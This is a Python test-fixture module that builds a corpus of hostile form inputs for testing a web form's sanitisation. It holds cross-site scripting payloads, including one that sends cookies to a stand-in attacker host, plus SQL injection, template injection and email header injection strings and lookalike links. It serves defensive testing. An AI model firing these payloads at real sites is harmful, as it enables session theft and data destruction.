"""The hostile-input corpus: what spammers, scanners and careless clients send to a public form.

Built from hand-written vectors multiplied by the transformations attackers use to slip past
filters (case changes, entity encoding, attribute breakouts, wrapping in other markup), plus
the other families: template syntax, SQL meta-characters, huge strings, control characters,
invalid UTF-8, bidirectional and combining text, emoji, header injection and lookalike links.

Each case is a `Case`: `text` is what goes into one form field (a str), `raw` the percent-encoded
bytes for the cases a str cannot carry (invalid UTF-8), and `script` says whether the case tries
to run script (the rendered page must then hold no markup from it).
"""

import html
from dataclasses import dataclass
from urllib.parse import quote, unquote_to_bytes


@dataclass(frozen=True)
class Case:
    id: str
    text: str
    family: str
    script: bool = False
    raw: str = ""  # percent-encoded form value, for bytes that are not valid UTF-8

    @property
    def decoded(self):
        """What Django's QueryDict makes of the value (invalid bytes become U+FFFD)."""
        if self.raw:
            return unquote_to_bytes(self.raw).decode("utf-8", "replace")
        return self.text

    def encoded(self):
        """The value as it appears in an x-www-form-urlencoded body or a query string."""
        return self.raw or quote(self.text, safe="")


# --- Script injection: the vectors --------------------------------------------------------

SCRIPT_VECTORS = [
    "<script>alert(1)</script>",
    "<script src=https://evil.example/x.js></script>",
    "<script>document.location='https://evil.example/?c='+document.cookie</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror='alert(1)'>",
    '<img src="x" onerror="alert(1)">',
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)>",
    '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="java\tscript:alert(1)">click</a>',
    '<a href="&#106;avascript:alert(1)">click</a>',
    '<a href="data:text/html,<script>alert(1)</script>">click</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    "[click](javascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/"><button>go</button></form>',
    '<input autofocus onfocus="alert(1)">',
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)",
    "<svg/onload=alert(1)//",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)" x="',
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    "<img src=`javascript:alert(1)`>",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<script>\u2028alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '{"<script>":"alert(1)"}',
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
]

TRANSFORMS = {
    "plain": lambda v: v,
    "upper": lambda v: v.upper(),
    "entities": lambda v: "".join(f"&#{ord(ch)};" for ch in v),
    "escaped": html.escape,
    "in-words": lambda v: f"Thank you for the article. {v} My back feels better.",
}


def _script_cases():
    cases = []
    for number, vector in enumerate(SCRIPT_VECTORS):
        for name, transform in TRANSFORMS.items():
            cases.append(Case(f"script-{number:02d}-{name}", transform(vector), "script", script=True))
    return cases


# --- The other families ---------------------------------------------------------------------

TEMPLATE_SYNTAX = [
    "{{ settings.SECRET_KEY }}",
    "{{ request.META }}",
    "{% load static %}{% debug %}",
    "{% include 'base.html' %}",
    "{{ 7|add:7 }}",
    "{# comment #}",
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{ ''.__class__.__mro__ }}",
    "{% csrf_token %}",
]

SQL = [
    "' OR '1'='1",
    "'; DROP TABLE comments_comment; --",
    '" OR 1=1 --',
    "1; SELECT pg_sleep(5)",
    "' UNION SELECT password FROM auth_user --",
    "%' AND 1=0 --",
    "\\'; --",
    "admin'--",
    "1' AND SLEEP(5)#",
    "%%%%",
    "_%_",
    "\\",
    "' || (SELECT 1) || '",
]

CONTROL = [
    "before\x00after",
    "\x00",
    "nul at end\x00",
    "bell\x07 backspace\x08 escape\x1b[31m red",
    "tab\there",
    "vertical\x0btab form\x0cfeed",
    "line\rreturn only",
    "windows\r\nline\r\nbreaks",
    "unicode line\u2028separator\u2029paragraph",
    "delete\x7f char",
    "c1 controls \x85\x9b\x9f",
    "zero\u200bwidth\u200cjoiners\u200d",
    "byte order mark \ufeff inside",
    "noncharacters \ufffe \uffff",
    "private use \ue000\U000f0000",
]

UNICODE = [
    "\u202eevil.exe\u202dtxt",
    "right-to-left \u202b\u05e9\u05dc\u05d5\u05dd\u202c mark",
    "\u0645\u0631\u062d\u0628\u0627 \u0628\u0643\u0645",
    "\u05e9\u05dc\u05d5\u05dd \u05e2\u05d5\u05dc\u05dd",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034dA"
    * 5,
    "e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301",
    "combining only \u0300\u0301\u0302",
    "emoji \U0001f600\U0001f44d\U0001f3fd \U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",
    "flags \U0001f1fa\U0001f1f8\U0001f1ec\U0001f1e7 keycap 1\ufe0f\u20e3",
    "\U0001f4a9" * 200,
    "astral \U0001d54f\U0001d550\U0001d551 math",
    "CJK \u75bc\u75db\u7ba1\u7406",
    "Ｆｕｌｌｗｉｄｔｈ ｔｅｘｔ ＜ｓｃｒｉｐｔ＞",
    "ß ﬁ ﬂ İ ı ǅ",
    "Nàïvé café résumé",
    "\u00a0non-breaking\u00a0spaces\u00a0",
    "\u3000ideographic space\u3000",
]

HEADER_INJECTION = [
    "ana@example.com\r\nBcc: victim@example.net",
    "ana@example.com\nBcc: victim@example.net",
    "ana@example.com%0d%0aBcc:victim@example.net",
    "ana@example.com\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>",
    '"ana\r\nX-Injected: 1" <ana@example.com>',
    "ana@example.com\x00evil@example.net",
    "ana@example.com, victim@example.net",
    "ana@example.com; victim@example.net",
    "<ana@example.com>",
    "ana@exa mple.com",
    "ana@@example.com",
    "ana@example..com",
    "ana@[127.0.0.1]",
    "ana@localhost",
    "\u0430na@example.com",
    "ana@xn--exmple-cua.com",
    "ana@ex\u0430mple.com",
    "a" * 300 + "@example.com",
    "ana+tag@example.com",
    "ANA@EXAMPLE.COM",
    "  ana@example.com  ",
]

LINKS = [
    "https://examp1e.com/login",
    "https://www.g00gle.com/",
    "https://xn--pple-43d.com/",
    "https://\u0430pple.com/",
    "http://clinic.example.org.evil.example/",
    "https://clinic.example.org@evil.example/",
    "https://evil.example/\u202egnp.exe",
    "www.cheap-pills.ru www.cheap-pills.xyz cheap.top",
    "https://a.example https://b.example https://c.example https://d.example",
    "//evil.example/path",
    "<https://evil.example/>",
    "[trusted clinic](https://evil.example/)",
    "mailto:ana@example.com?subject=hi%0d%0abcc:x@evil.example",
    "tel:+1-555-0100",
    "file:///etc/passwd",
]

EMPTYISH = ["", " ", "\t\n ", "\u200b", "\u00a0"]

SIZES = [
    ("1mb", "a" * 1024 * 1024),
    ("1mb-newlines", "line\n" * 209716),
    ("5001", "b" * 5001),
    ("5000", "c" * 5000),
    ("long-word", "x" * 20000),
    ("many-words", "word " * 3000),
]

INVALID_UTF8 = [
    ("lone-continuation", "%80"),
    ("ff-byte", "%FF%FE"),
    ("overlong-slash", "%C0%AF"),
    ("overlong-nul", "%C0%80"),
    ("overlong-lt", "%C0%BC%73cript%C0%BE"),
    ("overlong-3byte", "%E0%80%BC"),
    ("encoded-surrogate", "%ED%A0%80"),
    ("truncated-sequence", "caf%C3"),
    ("latin1-text", "caf%E9 cr%E8me"),
    ("cesu-emoji", "%ED%A0%BD%ED%B8%80"),
    ("five-byte", "%F8%88%80%80%80"),
    ("mixed", "ok %E2%82 then %F0%9F%98%80 fine"),
]


def build_corpus():
    cases = _script_cases()
    families = [
        ("template", TEMPLATE_SYNTAX),
        ("sql", SQL),
        ("control", CONTROL),
        ("unicode", UNICODE),
        ("header", HEADER_INJECTION),
        ("link", LINKS),
        ("empty", EMPTYISH),
    ]
    for family, values in families:
        cases += [Case(f"{family}-{number:02d}", value, family) for number, value in enumerate(values)]
    cases += [Case(f"size-{name}", value, "size") for name, value in SIZES]
    cases += [Case(f"utf8-{name}", "", "utf8", raw=raw) for name, raw in INVALID_UTF8]
    ids = [case.id for case in cases]
    assert len(ids) == len(set(ids)), "corpus case ids must be unique"
    return cases


CORPUS = build_corpus()
SCRIPT_CASES = [case for case in CORPUS if case.script]
# A stratified sample for the secondary fields: every non-script case (one 1 MB string is enough)
# and each script vector once, as typed. Slices of it (SAMPLE[::4]) keep every family.
SAMPLE = [case for case in CORPUS if case.id.endswith("-plain") or not case.script and case.id != "size-1mb-newlines"]


# For one-line values (search queries): every non-script case and the script vectors as typed,
# entity-encoded and inside a sentence (upper-casing and escaping add nothing for plain text).
ONE_LINE = [case for case in CORPUS if not case.script or case.id.endswith(("-plain", "-entities", "-in-words"))]


def by_family(*families):
    return [case for case in CORPUS if case.family in families]


def params(cases):
    """`pytest.param`s with readable ids."""
    import pytest

    return [pytest.param(case, id=case.id) for case in cases]
